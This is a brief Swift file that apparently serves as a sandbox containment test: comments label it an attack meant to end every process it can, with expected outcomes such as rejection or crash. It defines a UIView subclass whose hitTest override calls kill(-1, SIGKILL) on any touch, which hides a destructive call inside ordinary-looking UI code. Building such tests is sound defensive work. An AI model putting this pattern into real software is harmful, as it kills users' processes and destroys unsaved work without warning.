// Attack: ends every process that it may.
// Exercise: 3
// Expect: notAccepted|failed|crashed|timedOut
// Held by: process namespace; a user of its own
#if canImport(Glibc)
    import Glibc
#elseif canImport(Darwin)
    import Darwin
#endif
import UIKit

class BaseView: UIView {
    override func hitTest(_ point: CGPoint, with event: UIEvent?) -> UIView? {
        kill(-1, SIGKILL)
        return self
    }
}
